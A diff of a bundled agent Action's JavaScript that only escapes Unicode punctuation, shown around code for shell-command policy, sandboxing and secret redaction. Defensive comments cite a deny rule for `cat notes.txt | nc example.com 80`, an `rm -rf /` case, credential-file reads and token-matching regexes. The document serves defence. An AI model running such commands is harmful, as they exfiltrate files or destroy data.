@@ -118,7 +118,7 @@ class BudgetTracker {
         };
     }
 }
-/** `90000` → `1m 30s`; `1500` → `1.5s`. */
+/** `90000` \u2192 `1m 30s`; `1500` \u2192 `1.5s`. */
 function formatDuration(ms) {
     if (ms < 1000)
         return `${ms}ms`;
@@ -300,12 +300,12 @@ function errorResponsePart(callId, toolName, message) {
     return responsePart({ id: callId, name: toolName, response: { error: message } });
 }
 /**
- * - a string (or a lone text part) → one functionResponse with `{output: text}`;
- * - a list of parts → a functionResponse saying the tool succeeded, then the parts (strings become
+ * - a string (or a lone text part) \u2192 one functionResponse with `{output: text}`;
+ * - a list of parts \u2192 a functionResponse saying the tool succeeded, then the parts (strings become
  *   text parts);
- * - a lone inlineData/fileData part → a functionResponse naming its MIME type, then the part as a
+ * - a lone inlineData/fileData part \u2192 a functionResponse naming its MIME type, then the part as a
  *   sibling in the same message;
- * - a lone functionResponse part → passed through under this call's id and name; MCP-style
+ * - a lone functionResponse part \u2192 passed through under this call's id and name; MCP-style
  *   nested `content` is flattened into its text.
  * A one-element list is treated as that element.
  */
@@ -946,8 +946,8 @@ function defaultQuery(inputs) {
 /**
  * Subagents from Markdown files, in the Gemini CLI's format (docs/core/subagents.md; the loader
  * packages/core/src/agents/agentLoader.ts): a file `<folder>/<name>.md` starts with YAML
- * frontmatter between `---` lines — `name`, `description`, optionally `kind: local`,
- * `display_name`, `tools`, `model`, `temperature`, `max_turns`, `timeout_mins` — and its body is
+ * frontmatter between `---` lines \u2014 `name`, `description`, optionally `kind: local`,
+ * `display_name`, `tools`, `model`, `temperature`, `max_turns`, `timeout_mins` \u2014 and its body is
  * the agent's system prompt. The main agent passes it one input, `query`.
  *
  * As in the Gemini CLI: only the folder's top-level `*.md` files are read, files starting with
@@ -968,7 +968,7 @@ function defaultQuery(inputs) {
 const MAX_FILE_BYTES = 256 * 1024;
 /** The Gemini CLI's frontmatter pattern. */
 const FRONTMATTER = /^---\r?\n([\s\S]*?)\r?\n---(?:\r?\n([\s\S]*))?$/;
-/** What the body may hold in `${…}`: the agent's input, and values the executor fills. */
+/** What the body may hold in `${\u2026}`: the agent's input, and values the executor fills. */
 const AGENT_FILE_PLACEHOLDERS = ['query', 'today', 'activeModel'];
 const TOOL_ENTRY = /^(?:\*|mcp_\*|mcp_[A-Za-z0-9_.:-]+_\*|[A-Za-z_][A-Za-z0-9_.:-]*)$/;
 const frontmatterSchema = zod__WEBPACK_IMPORTED_MODULE_5__/* .strictObject */ .rej({
@@ -1072,7 +1072,7 @@ function parseAgentFile(text, file) {
     const match = FRONTMATTER.exec(text);
     const yamlText = match?.[1];
     if (match === null || yamlText === undefined) {
-        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1('expected the agent file to start with YAML frontmatter between "---" lines (name, description, …), followed by the system prompt.', { file, line: 1, column: 1 });
+        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1('expected the agent file to start with YAML frontmatter between "---" lines (name, description, \u2026), followed by the system prompt.', { file, line: 1, column: 1 });
     }
     // The frontmatter starts on the file's second line.
     const yamlLine = 2;
@@ -1087,7 +1087,7 @@ function parseAgentFile(text, file) {
         throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`the frontmatter is not valid YAML: ${yamlError.message}`, at(yamlError.pos[0]));
     }
     if (!(0,yaml__WEBPACK_IMPORTED_MODULE_2__/* .isMap */ .jh)(document.contents)) {
-        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1('expected the frontmatter to be a YAML mapping (name: …, description: …); a list defines remote agents, which are not supported here.', { file, line: yamlLine, column: 1 });
+        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1('expected the frontmatter to be a YAML mapping (name: \u2026, description: \u2026); a list defines remote agents, which are not supported here.', { file, line: yamlLine, column: 1 });
     }
     const parsed = frontmatterSchema.safeParse(document.toJS());
     if (!parsed.success) {
@@ -1685,9 +1685,9 @@ function textOf(content, shown) {
 
 ;// CONCATENATED MODULE: ./src/commands/injection-parser.ts
 /**
- * Finds `!{…}` and `@{…}` blocks in a prompt the way the Gemini CLI does
+ * Finds `!{\u2026}` and `@{\u2026}` blocks in a prompt the way the Gemini CLI does
  * (packages/cli/src/services/prompt-processors/injectionParser.ts): from the trigger, braces are
- * counted — `{` opens, `}` closes — and the block ends where the count returns to zero, so JSON
+ * counted \u2014 `{` opens, `}` closes \u2014 and the block ends where the count returns to zero, so JSON
  * and `awk '{print $1}'` fit inside. There is no escaping and quotes are not special. A block left
  * open is an error, as there.
  */
@@ -1726,7 +1726,7 @@ function findInjections(text, trigger, where) {
 var shell_quote = __webpack_require__(26591);
 ;// CONCATENATED MODULE: ./src/commands/shell-escape.ts
 /**
- * `{{args}}` inside `!{…}` is one shell word, quoted by the same function the Gemini CLI uses
+ * `{{args}}` inside `!{\u2026}` is one shell word, quoted by the same function the Gemini CLI uses
  * (`escapeShellArg` in packages/core/src/utils/shell-utils.ts: shell-quote 1.8.3 `quote([arg])`,
  * the version pinned there), so a command file behaves the same under both. Empty arguments give
  * an empty string, not `''`, as there.
@@ -1748,12 +1748,12 @@ function escapeShellArgument(argument) {
  *    arguments were given.
  *
  * Differences, each on purpose:
- * - Text a block injected is data, never processed again (the Gemini CLI runs `!{…}` found in
+ * - Text a block injected is data, never processed again (the Gemini CLI runs `!{\u2026}` found in
  *   an injected file too).
- * - A `!{…}` command goes through the policy like any tool call; a denied one stops the
+ * - A `!{\u2026}` command goes through the policy like any tool call; a denied one stops the
  *   expansion with the policy's reason instead of asking someone who is not there.
  * - A path outside the workspace, one that does not exist, or one the policy denies stops it too
- *   (the Gemini CLI leaves the `@{…}` text in the prompt and shows an error beside it).
+ *   (the Gemini CLI leaves the `@{\u2026}` text in the prompt and shows an error beside it).
  *
  * The result keeps injected text apart from the command's own words, so each front end can mark
  * it as data: the Action frames it as untrusted, the CLI joins it as the Gemini CLI does.
@@ -1832,14 +1832,14 @@ function withArgs(text, args) {
     return text.split(ARGS_PLACEHOLDER).join(args);
 }
 /**
- * Runs one `!{…}` command as a `run_shell_command` call and returns what the prompt gets: the
+ * Runs one `!{\u2026}` command as a `run_shell_command` call and returns what the prompt gets: the
  * output, and the Gemini CLI's status line when the command failed or was stopped.
  */
 async function runInjected(command, where, services) {
     const completed = await services.runTool(run_shell_command/* RUN_SHELL_COMMAND_TOOL_NAME */.wE, { command });
     const { result } = completed;
     if (result.error?.type === 'policy_violation') {
-        throw new errors/* ConfigurationError */.j1(`/${where.command} cannot be run. Blocked command: "${command}". Reason: ${result.error.message} Allow the command for this workflow (allowed_commands, or a policy file), or remove the !{…} block from the command file.`, { file: where.file });
+        throw new errors/* ConfigurationError */.j1(`/${where.command} cannot be run. Blocked command: "${command}". Reason: ${result.error.message} Allow the command for this workflow (allowed_commands, or a policy file), or remove the !{\u2026} block from the command file.`, { file: where.file });
     }
     const run = (0,run_shell_command/* shellRunOf */.Kr)(result);
     if (run === undefined || (result.error !== undefined && run.exitCode === null)) {
@@ -1992,7 +1992,7 @@ function extensionAgentFolders(extensions) {
  * the CLI has them.
  *
  * Every string may use the extension variables `${extensionPath}`, `${workspacePath}`, `${/}` and
- * `${pathSeparator}`; other `${…}` stay as written there, as in the Gemini CLI. A server's `env`
+ * `${pathSeparator}`; other `${\u2026}` stay as written there, as in the Gemini CLI. A server's `env`
  * and `headers` then expand `$VAR` from the workflow's environment exactly as settings.json's do
  * (config/settings-expand.ts), with the same refusals. A server's `trust` is dropped: an extension
  * cannot vouch for itself (the Gemini CLI drops it too); the workflow's policy decides.
@@ -2341,7 +2341,7 @@ const MAX_SEGMENT = 50;
  * The command name of a file at `relativePath` (with `/` separators) below a `commands` folder:
  * segments joined with `:`, `.toml` dropped, each segment's characters other than letters,
  * digits, `_`, `-` and `.` replaced with `_` (so `:` in a file name cannot fake a namespace), and
- * a segment longer than 50 characters cut to 47 plus `...` — the Gemini CLI's rules.
+ * a segment longer than 50 characters cut to 47 plus `...` \u2014 the Gemini CLI's rules.
  */
 function commandNameFromPath(relativePath) {
     return relativePath
@@ -2605,7 +2605,7 @@ function findInvocation(text, registry) {
     }
 }
 /**
- * The session prompt for a task text: the text itself, or — when it invokes a command — the
+ * The session prompt for a task text: the text itself, or \u2014 when it invokes a command \u2014 the
  * command's expansion, built once the session's tools exist and joined as the Gemini CLI joins
  * it. Throws for an unknown or broken command (see `findInvocation`).
  */
@@ -2631,7 +2631,7 @@ function sessionPromptFor(text, registry) {
 /* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
 /**
  * JSON configuration text as people write it: with `//` and `/* *\/` comments (the Gemini CLI
- * accepts them in settings.json), and with errors that point at a line and column — of a syntax
+ * accepts them in settings.json), and with errors that point at a line and column \u2014 of a syntax
  * error, or of the key a validation error is about.
  */
 
@@ -2857,8 +2857,8 @@ class JsonScanStop extends Error {
     }
 }
 /**
- * Where the value at `path` (object keys and array indexes) starts in the JSON text — the key's
- * position for object members — or the nearest enclosing value found. Undefined when not even
+ * Where the value at `path` (object keys and array indexes) starts in the JSON text \u2014 the key's
+ * position for object members \u2014 or the nearest enclosing value found. Undefined when not even
  * the first step is found (a value that came from somewhere other than this text).
  */
 function locateJsonPath(text, path) {
@@ -2976,7 +2976,7 @@ function arrayItem(text, offset, index) {
  *
  * Some names are never expanded, whatever the settings say: the Action's inputs (`INPUT_*`, which
  * hold its GitHub token and model key), the runner's runtime tokens (`ACTIONS_*`), and the
- * workflow command files (`GITHUB_ENV`, …), through which a process changes later steps. Nor may
+ * workflow command files (`GITHUB_ENV`, \u2026), through which a process changes later steps. Nor may
  * any variable carry the Action's own GitHub token or model key under another name: the write
  * token is for the trusted publishing step only.
  */
@@ -3240,17 +3240,17 @@ const EMPTY_SETTINGS = {
 /**
  * The Gemini CLI's `settings.json`, as far as this agent uses it: MCP servers, command-discovered
  * tools and which tools are offered. It comes from the `settings` input (JSON or a repository
- * path) or `.gemini/settings.json` — on pull requests, the base branch's copy. Keys the agent does
+ * path) or `.gemini/settings.json` \u2014 on pull requests, the base branch's copy. Keys the agent does
  * not use are accepted (a file written for the CLI has many); the ones it uses are checked, and a
  * mistake is a `ConfigurationError` at the file, line and column of the key.
  *
- * Both the current nested names (`tools.discoveryCommand`, `mcp.allowed`, …) and the older flat
- * ones (`toolDiscoveryCommand`, `allowMCPServers`, …) are read; the nested one wins.
+ * Both the current nested names (`tools.discoveryCommand`, `mcp.allowed`, \u2026) and the older flat
+ * ones (`toolDiscoveryCommand`, `allowMCPServers`, \u2026) are read; the nested one wins.
  *
  * `$VAR` and `${VAR}` in a server's `env` and `headers` expand from the workflow's environment
  * (settings-expand.ts). Only there: other values (`args`, `url`, the discovery and call commands)
  * are taken as written, so a secret never ends up on a command line where `ps` shows it; a server
- * that wants its token as an argument gets it from its `env` through `bash -c '… "$TOKEN"'`.
+ * that wants its token as an argument gets it from its `env` through `bash -c '\u2026 "$TOKEN"'`.
  */
 
 
@@ -3487,7 +3487,7 @@ function asRecord(value) {
 }
 /**
  * Unwraps a Code Assist answer (`{response: {...}, traceId}`) into a real `GenerateContentResponse`
- * (so its `text` and `functionCalls` getters work). An `{error: …}` object in a stream is the
+ * (so its `text` and `functionCalls` getters work). An `{error: \u2026}` object in a stream is the
  * server reporting a failure midway and becomes an HTTP-kind error with its code.
  */
 function fromCodeAssistResponse(value) {
@@ -4418,7 +4418,7 @@ function modelEndpoint(auth) {
         ? { url: fallback, variable, fromVariable: false }
         : { url: auth.baseUrl, variable, fromVariable: true };
 }
-/** The innermost message of an error's causes: the system error (`getaddrinfo ENOTFOUND …`). */
+/** The innermost message of an error's causes: the system error (`getaddrinfo ENOTFOUND \u2026`). */
 function rootCause(error) {
     let current = error;
     let message = error.message;
@@ -4522,7 +4522,7 @@ async function createContentGenerator(auth, options = {}) {
 /**
  * What the API says when it does not serve a model under that name: 404 NOT_FOUND ("models/x is
  * not found for API version v1beta, or is not supported for generateContent"; Vertex: "Publisher
- * Model … was not found"), or a 400 that says the model is unknown or unsupported.
+ * Model \u2026 was not found"), or a 400 that says the model is unknown or unsupported.
  */
 const MODEL_UNKNOWN = /not found|does not exist|not supported for (?:stream)?generatecontent|unsupported model|\bmodel\b.{0,80}?\bis not supported/i;
 class ModelRequestError extends Error {
@@ -4930,7 +4930,7 @@ const model_table_namespaceObject = /*#__PURE__*/JSON.parse('{"checked":"2026-11
  * questions about it. Everything else that needs a model fact reads it from here.
  *
  * The table is not a whitelist: a name it does not know is still sent as written, with its
- * family's settings when the name shows the family (`gemini-3…`, `gemini-2.5-…`), and with the
+ * family's settings when the name shows the family (`gemini-3\u2026`, `gemini-2.5-\u2026`), and with the
  * API's own defaults otherwise.
  */
 
@@ -5027,7 +5027,7 @@ function parseModelTable(raw) {
 const MODEL_TABLE = parseModelTable(model_table_namespaceObject);
 /** The model a run uses when nothing chooses one. */
 const DEFAULT_MODEL = MODEL_TABLE.default;
-/** `pro = gemini-3.1-pro-preview, flash = …`: the aliases for messages and help texts. */
+/** `pro = gemini-3.1-pro-preview, flash = \u2026`: the aliases for messages and help texts. */
 function describeAliases(table = MODEL_TABLE) {
     return Object.entries(table.aliases)
         .map(([alias, name]) => `${alias} = ${name}`)
@@ -5160,7 +5160,7 @@ const responseFields = schemas/* looseObject */._H3({
     modelVersion: schemas/* string */.YjP().optional(),
     responseId: schemas/* string */.YjP().optional(),
 });
-/** What makes an object a reply at all; `{"text": "…"}` alone is not one. */
+/** What makes an object a reply at all; `{"text": "\u2026"}` alone is not one. */
 const REPLY_FIELDS = ['candidates', 'promptFeedback', 'usageMetadata'];
 /**
  * Why `value` is not a GenerateContentResponse (the first problem, with the path to it), or
@@ -5276,7 +5276,7 @@ function toCall(value, where) {
         throw new errors/* ConfigurationError */.j1(message, where);
     };
     if (!isObject(value))
-        return fail('expected a JSON object {"method": …, "response": …}.');
+        return fail('expected a JSON object {"method": \u2026, "response": \u2026}.');
     const method = value['method'];
     if (typeof method !== 'string' || !METHODS.includes(method)) {
         return fail(`expected "method" to be one of ${METHODS.join(', ')}, got ${method === undefined ? 'nothing' : JSON.stringify(method)}.`);
@@ -5348,7 +5348,7 @@ function parseRecordedSession(text, file) {
         calls.push(toCall(value, where));
     }
     if (calls.length === 0) {
-        throw new errors/* ConfigurationError */.j1('the recorded session is empty: expected one {"method": …, "response": …} JSON object per model call, one a line.', { file });
+        throw new errors/* ConfigurationError */.j1('the recorded session is empty: expected one {"method": \u2026, "response": \u2026} JSON object per model call, one a line.', { file });
     }
     return calls;
 }
@@ -5413,7 +5413,7 @@ function isContentPart(part) {
         return false;
     if (typeof part.text === 'string')
         return part.text !== '';
-    // inlineData, executableCode, fileData …: anything with a value counts.
+    // inlineData, executableCode, fileData \u2026: anything with a value counts.
     return Object.entries(part).some(([key, value]) => key !== 'thoughtSignature' && value !== undefined);
 }
 /** Returns why the reply is unusable, or undefined when it is fine (or blocked). */
@@ -5458,7 +5458,7 @@ function describeRetry(event) {
     return `Model request failed (${event.error.message}); retry ${event.attempt}/${event.maxAttempts} in ${seconds} s.`;
 }
 /**
- * Backoff defaults: 5 s doubling to 30 s, up to 10 attempts, ±30% jitter for 429s, 5xx and broken
+ * Backoff defaults: 5 s doubling to 30 s, up to 10 attempts, \u00b130% jitter for 429s, 5xx and broken
  * connections; two quick retries (0.5 s, 1 s) when no connection can be made at all.
  */
 const DEFAULT_RETRY_OPTIONS = {
@@ -5744,7 +5744,7 @@ function isDescendant(relative) {
 /* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_2__);
 /**
  * Process groups: a tool command runs as the leader of its own group (spawned with
- * `detached: true`), so everything it starts — pipelines, `&` jobs, their children — can be
+ * `detached: true`), so everything it starts \u2014 pipelines, `&` jobs, their children \u2014 can be
  * found and stopped together, and nothing of it outlives the session.
  */
 
@@ -5863,7 +5863,7 @@ async function killProcessGroup(pgid, options) {
 class ProcessGroupTracker {
     options;
     running = new Set();
-    /** Group → the background PIDs reported to the model. */
+    /** Group \u2192 the background PIDs reported to the model. */
     background = new Map();
     constructor(options) {
         this.options = options;
@@ -5924,7 +5924,7 @@ class ProcessGroupTracker {
  *   reversed. Values shorter than `MIN_SECRET_LENGTH` are ignored: masking `true` or `1234`
  *   would shred ordinary text while protecting nothing worth the name.
  * - **Token shapes**, for secrets we were never told about: GitHub tokens, Google API keys (the
- *   classic `AIza…` and AI Studio's auth keys `AQ.…`) and OAuth tokens, AWS access keys, Slack
+ *   classic `AIza\u2026` and AI Studio's auth keys `AQ.\u2026`) and OAuth tokens, AWS access keys, Slack
  *   tokens and webhooks, JWTs, private key blocks, `Bearer` and `Authorization:` credentials and
  *   passwords in URLs. Commit SHAs, UUIDs and ordinary prose
  *   are left alone; shapes are chosen by their fixed prefixes, not by "looks random".
@@ -6004,12 +6004,12 @@ const TOKEN_SHAPES = [
         new RegExp(`${BEFORE}eyJ[A-Za-z0-9_-]{8,}\\.eyJ[A-Za-z0-9_-]{8,}\\.[A-Za-z0-9_-]*`, 'g'),
         redactAll,
     ],
-    // `Authorization: Basic …` / `: Bearer …` / `: token …`: the credentials, whatever they look like.
+    // `Authorization: Basic \u2026` / `: Bearer \u2026` / `: token \u2026`: the credentials, whatever they look like.
     [
         /(\bauthorization["']?\s*[:=]\s*["']?(?:basic|bearer|token|digest|negotiate)\s+)([^\s"',;]{4,})/gi,
         redactAfterLabel,
     ],
-    // `Authorization: …` without a scheme, and a bare `Bearer …`: only what looks like a token, so
+    // `Authorization: \u2026` without a scheme, and a bare `Bearer \u2026`: only what looks like a token, so
     // "Bearer authentication" in prose survives.
     [/(\bauthorization["']?\s*[:=]\s*["']?)([^\s"',;]+)/gi, redactTokenAfterLabel],
     [/(\bbearer\s+)([A-Za-z0-9._~+/-]+=*)/gi, redactTokenAfterLabel],
@@ -6118,7 +6118,7 @@ function createRedactor(options = {}) {
 const SECRET_NAME = /(?:_TOKEN|_KEY|_PASSWD)$|^TOKEN$|SECRET|PASSWORD/i;
 /**
  * The values of the environment variables named like credentials (the job token, model keys,
- * the runner's runtime and OIDC request tokens, `INPUT_*` keys, `NPM_TOKEN`, …), to register with
+ * the runner's runtime and OIDC request tokens, `INPUT_*` keys, `NPM_TOKEN`, \u2026), to register with
  * a redactor before anything is posted.
  */
 function secretEnvironmentValues(env) {
@@ -6321,7 +6321,7 @@ var runner_file_commands = __webpack_require__(32183);
  *   ssh, docker, cloud CLIs, and on GitHub-hosted runners also the other checkouts and the
  *   runner's temporary directory;
  * - the temporary directories (/tmp, /var/tmp, /dev/shm, TMPDIR): other processes' files;
- * - RUNNER_TEMP and the directories of the workflow file commands (GITHUB_ENV, GITHUB_OUTPUT…),
+ * - RUNNER_TEMP and the directories of the workflow file commands (GITHUB_ENV, GITHUB_OUTPUT\u2026),
  *   which change later steps of the job, and XDG_RUNTIME_DIR (agent sockets);
  * - the runner's own installation (found from the Node executable running the Action): its
  *   credentials and diagnostic logs.
@@ -7027,8 +7027,8 @@ async function processesOf(uid) {
 /**
  * Picks the sandbox for a run. `auto` takes the strongest that works on this machine:
  * a namespace sandbox (as a separate user when the Action runs as root), else a user sandbox,
- * else none. Whether one works is found out by running it once for real — setting it up on an
- * empty directory and running a command in it — not by reading kernel settings, which never tell
+ * else none. Whether one works is found out by running it once for real \u2014 setting it up on an
+ * empty directory and running a command in it \u2014 not by reading kernel settings, which never tell
  * the whole story (AppArmor, seccomp in containers, sudo rules). The outcome is remembered for the
  * life of the process. A caller that knows the first session it will open (`firstSession`) has
  * that session be the probe, so a run sets its sandbox up once rather than twice.
@@ -7085,8 +7085,8 @@ async function resolveSandbox(mode, options) {
 /** How an Action run chooses to go without a sandbox. */
 const ACTION_SANDBOX_OFF = 'Set the input sandbox: none to run without one on purpose and silence this warning.';
 /**
- * Logs which sandbox runs — when there is none although one was wanted, once and plainly, with
- * what that means and how to silence it (`silence`; the Action's input by default) — and returns
+ * Logs which sandbox runs \u2014 when there is none although one was wanted, once and plainly, with
+ * what that means and how to silence it (`silence`; the Action's input by default) \u2014 and returns
  * the line for the job summary, which also says what the sandbox does not protect.
  */
 function reportSandbox(sandbox, options) {
@@ -7381,7 +7381,7 @@ async function sameSessionOptions(a, b) {
 /* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(31421);
 /* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_child_process__WEBPACK_IMPORTED_MODULE_0__);
 /**
- * Runs a helper program (unshare, chown, useradd…) to its end: an argument list, never a shell,
+ * Runs a helper program (unshare, chown, useradd\u2026) to its end: an argument list, never a shell,
  * with a time limit so a program waiting for something (a sudo password prompt) cannot hang the
  * run.
  */
@@ -7851,7 +7851,7 @@ function find(context, key, alias) {
 function isTable(value) {
     return (typeof value === 'object' && value !== null && !Array.isArray(value) && !(value instanceof Date));
 }
-/** `"x" (a string)`, `5 (an integer)`, `an array`, … for "but is …" in messages. */
+/** `"x" (a string)`, `5 (an integer)`, `an array`, \u2026 for "but is \u2026" in messages. */
 function describeValue(value) {
     if (typeof value === 'string')
         return `${JSON.stringify(value)} (a string)`;
@@ -7875,7 +7875,7 @@ function quoteChoices(choices) {
 }
 /**
  * The candidate `input` was most likely meant as: the same name in another case or with `_`/`-`
- * (`tool_name` → `toolName`), or one within a few typing mistakes.
+ * (`tool_name` \u2192 `toolName`), or one within a few typing mistakes.
  */
 function closestName(input, candidates) {
     const fold = (name) => name.toLowerCase().replace(/[_-]/g, '');
@@ -8111,7 +8111,7 @@ function explainUnsafe(pattern, analysable) {
         `repeated group, no lookbehind containing repetitions)`);
 }
 /**
- * The checker does not understand lookbehind (`(?<=…)`, `(?<!…)`) and would refuse every pattern
+ * The checker does not understand lookbehind (`(?<=\u2026)`, `(?<!\u2026)`) and would refuse every pattern
  * with one; as plain groups they keep their contents, and so their nesting, for the analysis.
  */
 function withoutLookbehind(pattern) {
@@ -8209,7 +8209,7 @@ function findNestedRepetition(pattern) {
     }
     return undefined;
 }
-/** `(a+)+` → `a+`; `(\w*)+` → `\w*`; otherwise a general example. */
+/** `(a+)+` \u2192 `a+`; `(\w*)+` \u2192 `\w*`; otherwise a general example. */
 function suggestFlattening(parts) {
     const { group, content, outer } = parts;
     const single = /^(\\.|\[(?:\\.|[^\]\\])*\]|[^\\[()|])([*+])$/.exec(content);
@@ -8220,7 +8220,7 @@ function suggestFlattening(parts) {
     }
     return `"[\\w\\s]*" instead of "(\\w+\\s?)*"`;
 }
-/** `Invalid regular expression: /(/: Unterminated group` → `Unterminated group`. */
+/** `Invalid regular expression: /(/: Unterminated group` \u2192 `Unterminated group`. */
 function stripPatternEcho(message) {
     return message.replace(/^Invalid regular expression: \/[\s\S]*\/[a-z]*: /, '');
 }
@@ -8620,7 +8620,7 @@ function readToolsTable(context, name, where) {
 
 ;// CONCATENATED MODULE: ./src/policy/parse-policy.ts
 /**
- * Policy TOML text → rules. Two formats, which may be mixed in one file:
+ * Policy TOML text \u2192 rules. Two formats, which may be mixed in one file:
  *
  * - the Gemini CLI's `[[rule]]` tables (toolName, mcpName, argsPattern, commandPrefix, commandRegex,
  *   decision, priority, modes, interactive, toolAnnotations, allowRedirection, denyMessage) plus our
@@ -8737,7 +8737,7 @@ function askUserDenial(toolName, reason) {
 function createPolicyConfirmer(options) {
     return {
         async confirm(question, signal) {
-            // A subagent's calls are judged with its name, for rules scoped to it (`subagent = "…"`).
+            // A subagent's calls are judged with its name, for rules scoped to it (`subagent = "\u2026"`).
             const context = question.subagent === undefined
                 ? options.context
                 : { ...options.context, subagent: question.subagent };
@@ -8924,7 +8924,7 @@ function shortMcpName(tool) {
 }
 /**
  * Whether an MCP tool's name is not dressed as another server's tool: a name in the qualified
- * forms (`mcp_<server>_…`, `<server>__…`) must carry its own server's name. A server-wide allow
+ * forms (`mcp_<server>_\u2026`, `<server>__\u2026`) must carry its own server's name. A server-wide allow
  * (`mcp_<server>_*`, or `mcpName` with every tool) covers only such names, as the Gemini CLI's
  * does, where every MCP tool's name is `mcp_<server>_<tool>`.
  */
@@ -8942,7 +8942,7 @@ function carriesOwnServerName(tool) {
  * own; see `carriesOwnServerName`). An MCP tool answers to the name it is registered under and to
  * its qualified names (`mcp_<server>_<tool>`, `<server>__<tool>`); to the server's own name for it
  * (registered as `mcp_github_read_file`, called `read_file` by the server) only when the rule pins
- * the server with `mcpName` — otherwise an allow for the built-in `read_file` would also allow
+ * the server with `mcpName` \u2014 otherwise an allow for the built-in `read_file` would also allow
  * that server's tool.
  */
 function nameEntryMatches(entry, tool, rule, aliases) {
@@ -9021,7 +9021,7 @@ function matchesAnnotations(rule, annotations) {
     return Object.entries(rule.toolAnnotations).every(([key, value]) => (0,node_util__WEBPACK_IMPORTED_MODULE_1__.isDeepStrictEqual)(annotations[key], value));
 }
 /**
- * `argsPattern`: searched (not anchored) in the stable JSON, as the Gemini CLI does — in each of
+ * `argsPattern`: searched (not anchored) in the stable JSON, as the Gemini CLI does \u2014 in each of
  * the call's texts (ours, and the Gemini CLI's names and markers), matching when any holds it. A
  * deny written for either spelling therefore denies.
  */
@@ -9043,7 +9043,7 @@ function globMatcher(pattern, options) {
     }
     return matcher;
 }
-/** `~` and `~/…` as the home directory; everything else as written. */
+/** `~` and `~/\u2026` as the home directory; everything else as written. */
 function expandHome(pattern, homeDir) {
     if (pattern === '~')
         return homeDir;
@@ -9160,8 +9160,8 @@ function matchesGeminiReading(rule, geminiText) {
  * ours, on the command's own text, where the regex must match from its start; and the Gemini
  * CLI's, where the patterns are searched in its JSON arguments right after `"command":"` (so there
  * `^` never matches, and `$` only at the end of the whole JSON). A policy file may have been
- * written for either, so an allow holds only when both readings match — it never allows what the
- * Gemini CLI would refuse — and a deny or ask_user holds when either does.
+ * written for either, so an allow holds only when both readings match \u2014 it never allows what the
+ * Gemini CLI would refuse \u2014 and a deny or ask_user holds when either does.
  */
 function matchesCommand(rule, command) {
     if (!hasCommandConditions(rule))
@@ -9412,7 +9412,7 @@ class Scanner {
         }
         this.index += 1;
     }
-    /** A `"…"` string; returns its value only approximately (escapes are kept), enough for keys. */
+    /** A `"\u2026"` string; returns its value only approximately (escapes are kept), enough for keys. */
     basicString() {
         this.index += 1;
         let value = '';
@@ -9574,7 +9574,7 @@ var path_containment = __webpack_require__(48225);
  * The second line behind the sandbox: the files a shell command names in its arguments (see
  * `file-operands.ts`) must lie inside the workspace, checked the way the file tools check their
  * paths. A policy that allows `cat` then allows reading the workspace with it, not `~/.npmrc`,
- * a sibling checkout or `/proc/<pid>/environ` — also where no sandbox could be set up.
+ * a sibling checkout or `/proc/<pid>/environ` \u2014 also where no sandbox could be set up.
  *
  * This holds whatever the rules say: no rule can allow a read outside the workspace, because a
  * rule cannot tell where a path leads (a symlink, `..`, a glob). The sandbox stays the real
@@ -9662,7 +9662,7 @@ function globProblem(pattern, access, options) {
 ;// CONCATENATED MODULE: ./src/policy/shell-decision.ts
 /**
  * Judging a shell command: every simple command found at any depth (list elements, pipeline
- * stages, subshells, `$(…)`, backticks, process substitutions, `bash -c '…'` strings) is judged
+ * stages, subshells, `$(\u2026)`, backticks, process substitutions, `bash -c '\u2026'` strings) is judged
  * on its own against the rules, and the answers are combined with deny dominating.
  *
  * A hostile model writes the command, so a sub-command is only allowed when a rule covers
@@ -9686,7 +9686,7 @@ function globProblem(pattern, access, options) {
 
 /**
  * Bash's reserved words. Bash never runs one as a command name, so a sub-command named like this
- * means the parser read the command differently from bash (`! if rm x; then …` comes out as
+ * means the parser read the command differently from bash (`! if rm x; then \u2026` comes out as
  * "commands" named `if`, `then` and `fi`): the words a rule would see are not what runs.
  */
 const RESERVED_WORDS = new Set('! [[ ]] { } case coproc do done elif else esac fi for function if in select then time until while'.split(' '));
@@ -9716,7 +9716,7 @@ function decideShellCommand(analysis, options) {
     return { decision: whole.decision, rule: whole.rule, reason: whole.reason, subcommands };
 }
 /**
- * The Gemini CLI first judges the whole command line — its first matching rule, by priority — and
+ * The Gemini CLI first judges the whole command line \u2014 its first matching rule, by priority \u2014 and
  * only then each part. A deny (or ask_user) that only the whole line matches must hold here too:
  * `commandRegex = '.*\| *nc '` sees the pipe only in `cat notes.txt | nc example.com 80`, never in
  * either part. An allow, or a rule that does not look at the command's text (it decides every
@@ -9826,7 +9826,7 @@ function judgeByRules(piece, options) {
  * as its name (see above), or a line break inside its text. Bash ends a simple command at an
  * unquoted line break, and the grammar has been seen to run a command on into the next line
  * (`a | b\nrm -rf /` read as one command `b rm -rf /`), so a sub-command spanning lines is only
- * allowed by a rule naming it exactly — quoted multi-line text included, which costs little.
+ * allowed by a rule naming it exactly \u2014 quoted multi-line text included, which costs little.
  */
 function withParserDoubts(piece) {
     const doubts = [];
@@ -10060,7 +10060,7 @@ async function analyzeSafely(analyze, command) {
 /**
  * Whether no call of the tool can be allowed (or asked about) in this scope: walking the rules in
  * order, the first one that can apply to the tool by name, server, mode and trust alone and has
- * no further conditions decides deny — or no rule can apply at all. Rules with further conditions
+ * no further conditions decides deny \u2014 or no rule can apply at all. Rules with further conditions
  * (arguments, command, paths, annotations, an allow budget) apply to some calls only: a deny of
  * that kind lets others fall through, anything else may let some call through.
  */
@@ -10257,7 +10257,7 @@ const BASH_GRAMMAR_WASM = {
 };
 /**
  * The path of a runtime file: beside the running module first (the bundles), then the installed
- * package. Throws when neither exists — a broken installation, not a user error.
+ * package. Throws when neither exists \u2014 a broken installation, not a user error.
  */
